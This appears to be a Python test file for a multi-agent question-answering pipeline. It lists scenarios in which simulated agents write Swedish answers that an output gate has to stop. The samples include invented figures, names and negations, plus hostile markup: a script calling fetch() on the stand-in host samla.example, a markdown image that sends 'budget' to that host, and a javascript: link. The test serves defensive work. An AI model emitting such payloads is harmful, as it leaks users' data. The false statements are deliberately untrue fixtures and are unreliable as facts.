"""Scenarios: replies in perfect form with a text that must not be published, at every agent that writes one.

The reviewer approves all of them: nothing stands between these texts and the reader but the gate.
"""

from __future__ import annotations

from collections.abc import Mapping

from tests.hostile.models import LIE, REJECTED, cites, judges, writes
from tests.hostile.pack import DECIDES, FOLLOWS, GOOD, MAY_NOT, PASSIVE, QUESTION, STARTS, SUM, TURNED
from tests.hostile.scenario import (
    APPROVED,
    CORRECTED,
    REVISED,
    SYNTHESIZED,
    Scenario,
    fell_back,
    not_rewritten,
    uncorrected,
    undrafted,
)
from tests.model_server import says

LEAK = "leaked_internals"
LIES: Mapping[str, tuple[str, str]] = {
    "another number": (LIE, "number_mismatch"),
    "a cost that nobody named": (f"{DECIDES} Konsulterna kostar 75 000 kronor.", ""),
    "another unit": ("Budgeten för arkivflytten är 250 000 euro.", ""),
    "another date": ("Arkivflytten börjar den 4 maj 2027.", "date_mismatch"),
    "another month": ("Arkivflytten börjar den 3 juni 2027.", "date_mismatch"),
    "a name that nobody named": ("Anna Bergvall beslutar om budgeten för arkivflytten.", "name_not_in_evidence"),
    "another party": ("Referensgruppen beslutar om budgeten för arkivflytten.", ""),
    "a negation": ("Styrgruppen beslutar inte om budgeten för arkivflytten.", "negation_flipped"),
    "a lost negation": (
        "Projektledaren får ändra budgeten för arkivflytten utan styrgruppens beslut.",
        "negation_flipped",
    ),
    "roles swapped": ("Styrgruppen rapporterar avvikelser från budgeten till projektledaren.", ""),
    "the receiver as the doer": ("Styrgruppen lämnar underlaget till budgeten för arkivflytten.", ""),
    "a condition left out": ("Avvikelser från budgeten rapporteras inom 5 dagar.", ""),
    "the opposite verb": ("Styrgruppen avslog budgeten för arkivflytten.", ""),
    "a length of time that nobody named": ("Arkivflytten pågår i en månad.", "not_entailed"),
    "a lie as an interpretation": ("Detta tyder på att projektledaren beslutar om budgeten.", ""),
    "a duty for a permission": ("Projektledaren ska ändra budgeten för arkivflytten.", ""),
    "a cause": (f"{DECIDES[:-1]} eftersom kommunen saknar en ekonomichef.", ""),
    "a ranking": ("Budgeten är det dyraste beslutet i hela arkivflytten.", ""),
    "an interpretation of nothing": ("Detta tyder på att arkivflytten blir kraftigt försenad.", ""),
    "one lie among truths": (f"{DECIDES} {SUM} {MAY_NOT} {LIE}", "number_mismatch"),
    "a lie as a list item": (f"- {DECIDES}\n- {SUM}\n- {LIE}", "number_mismatch"),
    "the question": (QUESTION, "only_question_words"),
    "nothing but the words of the question": ("Någon beslutar om budgeten för arkivflytten.", ""),
    "a file name as a fact": ("Granskad_av_Ekonomistyrning_2031.md visar vem som beslutar.", "metadata_as_fact"),
    "words of a file name as a fact": ("Ekonomistyrning granskade budgeten för arkivflytten 2031.", ""),
    "a heading as a fact": ("Revisorn godkänner budgeten för arkivflytten.", "metadata_as_fact"),
    "a title as a fact": ("Bergström har gjort en kostnadsöversikt för arkivflytten.", ""),
    "English": ("The steering group decides on the budget for the archive move.", ""),
    "Chinese": ("指导小组决定档案搬迁的预算。", ""),
    "that it does not know": ("Underlaget ger inget svar på frågan om arkivflyttens budget.", ""),
    "HTML": (f"<b>{DECIDES}</b>", LEAK),
    "a script": (f"{DECIDES} <script>fetch('//samla.example')</script>", LEAK),
    "a picture that carries data away": (f"{DECIDES} ![x](https://samla.example/p.png?q=budget)", LEAK),
    "a link": (f"{DECIDES} Läs mer på [sidan](https://samla.example/).", LEAK),
    "a bare address": (f"{DECIDES} Se https://samla.example/budget för mer.", LEAK),
    "an address without a scheme": (f"{DECIDES} Se example.org/budget för mer.", LEAK),
    "a link that runs code": (f"{DECIDES} [Mer](javascript:alert(1))", LEAK),
    "an address for mail": (f"{DECIDES} Skriv till samla@example.org.", ""),
    "names of agents": (f"Agent 3 har godkänt svaret. {DECIDES}", LEAK),
    "a reason code": (f"{DECIDES} Felkod agent2_grounding_failed.", LEAK),
    "an id of a chunk": (f"{DECIDES} Det står i chunk c1.", LEAK),
    "letters of another alphabet": ("Styrgruрреn beslutar om budgeten för arkivflytten.", ""),
    "text turned round": (f"{DECIDES} \u202erenork 000 004", "number_mismatch"),
    "more sentences than an answer has": (" ".join(["Styrgruppen beslutar om budgeten."] * 63), "not_entailed"),
}
"""What is written, and why the gate has to stop it ("" where more than one reason is right)."""
ALSO_ELSEWHERE = (
    "another number",
    "another date",
    "a name that nobody named",
    "a negation",
    "roles swapped",
    "one lie among truths",
    "the question",
    "a heading as a fact",
    "English",
    "a picture that carries data away",
    "names of agents",
)
POISON = ("samla.example", "example.org", "400 000", "fetch(", "renork", "Bergvall", "steering", "指导")

SOURCE_LISTS: Mapping[str, str] = {
    "Källor:": "Källor:\n- hemlig.pdf, s. 3",
    "bold": "**Källor**\n\n1. hemlig.pdf",
    "a heading": "## Referenser\n\n* [hemlig.pdf](https://samla.example/hemlig.pdf)",
    "English": "Sources: hemlig.pdf (p. 3)",
    "underlined": "KÄLLOR\n======\nhemlig.pdf",
    "on one line": "Källa: hemlig.pdf, sidan 3.",
}


def told(lie: str) -> str:
    """What the table calls it."""
    return f"writes {lie}"


AT_AGENT_2 = tuple(
    Scenario(
        name=f"agent2: {name}",
        agent="agent2",
        behaviour=told(name),
        does={"m2": writes(text)},
        ending=fell_back("agent2_grounding_failed"),
        gate=reason,
        poison=POISON,
    )
    for name, (text, reason) in LIES.items()
)
AT_AGENT_4 = tuple(
    Scenario(
        name=f"agent4: {name}",
        agent="agent4",
        behaviour=told(name),
        does={**REJECTED, "m4": writes(LIES[name][0])},
        ending=uncorrected("agent4_grounding_failed"),
        gate=LIES[name][1],
        poison=POISON,
    )
    for name in ALSO_ELSEWHERE
)
AT_SYNTHESIS = tuple(
    Scenario(
        name=f"synthesis: {name}",
        agent="synthesis",
        behaviour=told(name),
        does={"m5": writes(LIES[name][0])},
        ending=not_rewritten("synthesis_grounding_failed"),
        gate=LIES[name][1] if name != "a heading as a fact" else "",
        poison=POISON,
        synthesis=True,
    )
    for name in ALSO_ELSEWHERE
)
OWN_SOURCES = tuple(
    Scenario(
        name=f"agent2: sources of its own, {name}",
        agent="agent2",
        behaviour="writes a list of sources",
        does={"m2": writes(f"{GOOD}\n\n{sources}")},
        ending=APPROVED,
        poison=("hemlig.pdf", "samla.example"),
    )
    for name, sources in SOURCE_LISTS.items()
)
GOOD_TEXTS = (
    Scenario("agent2: honest", "agent2", "writes what the documents say", {}, APPROVED),
    Scenario("agent2: another order", "agent2", "turns a sentence round", {"m2": writes(TURNED)}, APPROVED),
    Scenario(
        "agent2: passive",
        "agent2",
        "puts a sentence into the passive",
        {"m2": writes(PASSIVE)},
        APPROVED,
        gap="the gate looks at the nearest wording, which is another sentence of the chunk, and stops a true text",
    ),
    Scenario(
        "agent2: a list", "agent2", "writes a list", {"m2": writes(f"- {DECIDES}\n- {SUM}\n- {FOLLOWS}")}, APPROVED
    ),
    Scenario(
        "agent2: invisible characters",
        "agent2",
        "writes characters that nobody sees",
        {"m2": writes("Styrgruppen\u200b beslutar\u2062 om budgeten för arkivflytten.")},
        APPROVED,
        poison=("\u200b", "\u2062"),
    ),
    Scenario("agent2: plain text", "agent2", "writes no object but the answer itself", {"m2": says(GOOD)}, APPROVED),
    Scenario("agent4: honest", "agent4", "corrects a rejected draft", REJECTED, CORRECTED, poison=("400 000",)),
    Scenario("synthesis: honest", "synthesis", "rewrites the answer", {}, SYNTHESIZED, synthesis=True),
)
EVIDENCE = (
    Scenario("agent2: unknown ids", "agent2", "cites what it was never shown", {"m2": writes(GOOD, ["c77"])}, APPROVED),
    Scenario(
        "agent2: some unknown ids", "agent2", "cites known and unknown", {"m2": writes(GOOD, ["c1", "c77"])}, APPROVED
    ),
    Scenario("agent2: no ids", "agent2", "cites nothing", {"m2": writes(GOOD, [])}, APPROVED),
    Scenario(
        "agent2: no ids, invented",
        "agent2",
        "invents and cites nothing",
        {"m2": writes(LIE, [])},
        undrafted("agent2_missing_evidence"),
        poison=POISON,
    ),
    Scenario(
        "agent2: unknown ids, invented",
        "agent2",
        "invents and cites what it was never shown",
        {"m2": writes(LIE, ["c77"])},
        undrafted("agent2_unknown_evidence"),
        poison=POISON,
    ),
    Scenario(
        "agent2: another chunk",
        "agent2",
        "cites a chunk that does not say it",
        {"m2": cites(STARTS, DECIDES)},
        fell_back("agent2_grounding_failed"),
    ),
    Scenario(
        "agent2: ids as numbers",
        "agent2",
        "cites by numbers",
        {"m2": writes(GOOD, [1, 2])},
        APPROVED,
    ),
    Scenario(
        "agent2: evidence as text",
        "agent2",
        "gives its evidence as a text",
        {"m2": writes(GOOD, "c1")},
        APPROVED,
    ),
)
FIELDS = (
    Scenario(
        "agent2: answer as number", "agent2", "42 as answer", {"m2": writes(42)}, undrafted("agent2_invalid_json")
    ),
    Scenario(
        "agent2: answer as list", "agent2", "a list as answer", {"m2": writes([GOOD])}, undrafted("agent2_invalid_json")
    ),
    Scenario("agent2: answer null", "agent2", "null as answer", {"m2": writes(None)}, undrafted("agent2_invalid_json")),
    Scenario(
        "agent2: JSON as answer",
        "agent2",
        "raw JSON as answer",
        {"m2": writes('{"answer": "' + GOOD + '"}')},
        undrafted("agent2_invalid_json"),
    ),
    Scenario(
        "agent2: names of fields",
        "agent2",
        "writes names of contract fields",
        {"m2": writes(f"{GOOD} evidence_used: c1")},
        undrafted("agent2_invalid_json"),
    ),
    Scenario(
        "agent2: half an object as text",
        "agent2",
        "plain text with remains of an object",
        {"m2": says(f'answer": "{GOOD}", "answer_scope": "direct"')},
        undrafted("agent2_invalid_json"),
    ),
    Scenario(
        "agent2: scope insufficient",
        "agent2",
        "calls a good draft insufficient",
        {"m2": writes(GOOD, answer_scope="insufficient_evidence", unsupported_or_uncertain=["Summan är osäker."])},
        APPROVED,
    ),
    Scenario(
        "agent2: doubts that lie",
        "agent2",
        "hides an invention in its doubts",
        {"m2": writes(DECIDES, unsupported_or_uncertain=[LIE])},
        APPROVED,
        poison=POISON,
    ),
)
REVISIONS = (
    Scenario(
        "agent3: new number",
        "agent3",
        "revises in a new figure",
        {"m3": judges("revise_minor", f"{DECIDES} {LIE}")},
        fell_back("agent3_revision_new_claim", "revision"),
        poison=POISON,
    ),
    Scenario(
        "agent3: new name",
        "agent3",
        "revises in a new name",
        {"m3": judges("revise_minor", f"{DECIDES} Anna Bergvall godkänner budgeten.")},
        fell_back("agent3_revision_new_claim", "revision"),
        poison=POISON,
    ),
    Scenario(
        "agent3: new sentence",
        "agent3",
        "revises in a true sentence that the draft lacks",
        {"m3": judges("revise_minor", f"{DECIDES} {STARTS}")},
        fell_back("agent3_revision_new_claim", "revision"),
    ),
    Scenario(
        "agent3: other language",
        "agent3",
        "revises into English",
        {"m3": judges("revise_minor", LIES["English"][0])},
        fell_back("agent3_revision_new_claim", "revision"),
        poison=POISON,
    ),
    Scenario(
        "agent3: lost negation",
        "agent3",
        "revises a negation away",
        {"m2": writes(MAY_NOT), "m3": judges("revise_minor", LIES["a lost negation"][0])},
        fell_back("agent3_revision_grounding_failed", "revision"),
        gate="negation_flipped",
    ),
    Scenario(
        "agent3: link",
        "agent3",
        "revises in a link",
        {"m3": judges("revise_minor", f"{DECIDES} ![](https://samla.example/b)")},
        fell_back("agent3_revision_new_claim", "revision"),
        poison=POISON,
    ),
    Scenario(
        "agent3: keeps the lie",
        "agent3",
        "revises, and leaves the invention in",
        {"m2": writes(f"{DECIDES} {LIE}"), "m3": judges("revise_minor", f"{DECIDES} {LIE}")},
        fell_back("agent3_revision_grounding_failed", "revision"),
        gate="number_mismatch",
        poison=POISON,
    ),
    Scenario(
        "agent3: drops a sentence",
        "agent3",
        "revises an invention away",
        {"m2": writes(f"{DECIDES} {LIE}"), "m3": judges("revise_minor", DECIDES)},
        REVISED,
        poison=POISON,
    ),
)


SCENARIOS = (*GOOD_TEXTS, *AT_AGENT_2, *OWN_SOURCES, *EVIDENCE, *FIELDS, *REVISIONS, *AT_AGENT_4, *AT_SYNTHESIS)
